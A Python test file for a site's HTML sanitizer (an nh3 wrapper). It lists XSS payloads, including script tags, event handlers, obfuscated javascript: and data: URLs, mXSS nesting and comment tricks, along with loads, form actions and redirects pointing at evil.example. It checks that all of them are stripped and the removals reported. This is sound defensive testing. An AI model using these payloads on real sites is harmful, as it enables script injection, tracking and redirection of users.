"""The sanitizer (nh3, Ammonia's binding) against its allowlist: known attacks come out clean,
what the site writes goes through unchanged, and :func:`changes` names what was removed."""

from __future__ import annotations

import pytest
from conftest import examples
from html_allowlist import offending
from hypothesis import given, settings
from hypothesis import strategies as st

from toolkit.checks.sanitize import Change, changes, sanitize

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="https://evil.example/t.png">',
    '<img src="//evil.example/t.png">',
    '<img src="/\\evil.example/t.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<!--> <img src="https://evil.example/u.png"> -->',
    '<!-- x --!> <img src="https://evil.example/v.png">',
    "<iframe src=https://evil.example></iframe>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    '<form action="https://evil.example"><input name=phone><button formaction=https://evil.example>ok</button></form>',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<p style="background:url(https://evil.example/z.png)">x</p>',
    '<div data-md-component="x" onmouseover="alert(1)">x</div>',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<picture><source srcset="https://evil.example/s.png"><img src="ok.png" alt="a"></picture>',
    '<img src="ok.png" srcset="https://evil.example/s.png 2x" alt="a">',
    '<a href="https://ok.example" ping="https://evil.example/ping">x</a>',
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
    '<input type="image" src="https://evil.example/i.png"><input type=text autofocus onfocus=alert(1)>',
    '<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>',
    '<p><a href="#x" target="_blank" rel="opener">x</a></p>',
    "<xmp><script>alert(1)</script></xmp><noembed><img src=x onerror=alert(1)></noembed>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_clean_and_is_named(attack):
    cleaned = sanitize(attack)
    assert offending(cleaned) == []
    assert changes(attack), "the removal is reported"


def test_what_the_site_writes_is_published_as_it_is():
    page = (
        '<h2 id="etapes">Étapes<a class="headerlink" href="#etapes" title="Permanent link">¶</a></h2>\n'
        '<div class="admonition note"><p class="admonition-title">Note</p><p>Texte <em>clé</em>, '
        '<abbr title="Plan">PDESC</abbr>, <span lang="fr">mot</span>.</p></div>\n'
        '<table><thead><tr><th align="left">a</th></tr></thead><tbody><tr><td align="left">1</td></tr></tbody></table>\n'
        '<ul class="task-list"><li class="task-list-item"><input type="checkbox" disabled="" checked=""> fait</li></ul>\n'
        '<p><img alt="Carte" src="carte.png" width="960" height="540" decoding="async" loading="lazy"> '
        '<a href="../../outils/fiche/">la fiche</a> <a href="https://example.org/x?a=1&amp;b=2">le guide</a> '
        '<a href="mailto:contact@example.org">courriel</a> <a href="../../downloads/x.pdf" download="">PDF</a></p>\n'
        "<!-- hub:downloads -->"
    )
    assert sanitize(page) == page
    assert changes(page) == []


def test_changes_name_what_was_removed_and_where_to_find_it():
    assert changes(
        '<p onclick="alert(1)" style="x">a</p><script>b</script><a href="javascript:alert(2)">c</a>'
    ) == [
        Change("the event handler 'onclick' on <p>", "alert(1)"),
        Change("the attribute 'style' on <p>", "style"),
        Change("the element <script>", "<script"),
        Change("the address 'javascript:alert(2)' on <a>", "alert(2)"),
    ]


def test_generated_pages_keep_their_filter_form_content_does_not():
    form = '<form class="hub-filters" hidden=""><label>Thème <select name="themes"><option value="">Tous</option></select></label></form>'
    assert sanitize(form, generated=True) == form
    assert sanitize(form) == "Thème Tous"
    assert (
        sanitize(
            '<form action="https://evil.example"><button formaction="x">b</button></form>',
            generated=True,
        )
        == "<form><button>b</button></form>"
    )


HTML_BITS = [
    "<",
    ">",
    "/",
    "=",
    '"',
    "'",
    " ",
    "\t",
    "\n",
    "!",
    "-",
    "--",
    "<!--",
    "-->",
    "--!>",
    "&",
    "#",
    ";",
    "&#106;",
    "&colon;",
    "&#x09;",
    "javascript",
    ":",
    "data",
    "https",
    "//",
    "\\",
    "evil.example",
    "script",
    "img",
    "a",
    "svg",
    "math",
    "style",
    "iframe",
    "src",
    "href",
    "on",
    "onerror",
    "onclick",
    "alert(1)",
    "x",
    "p",
    "div",
    "table",
    "template",
    "noscript",
    "title",
    "textarea",
    "xmp",
    "select",
    "option",
    "form",
    "input",
    "type",
    "checkbox",
    "srcset",
    "formaction",
    "xlink:href",
    "use",
    "base",
]


@settings(max_examples=examples(400), deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(HTML_BITS), st.text(max_size=4)), max_size=60).map("".join),
    st.booleans(),
)
def test_whatever_the_html_the_output_is_inside_the_allowlist(fragment, generated):
    cleaned = sanitize(fragment, generated)
    assert offending(cleaned, generated) == []
    assert sanitize(cleaned, generated) == cleaned  # stable: a second pass changes nothing
    if cleaned == fragment:
        assert changes(fragment, generated) == []
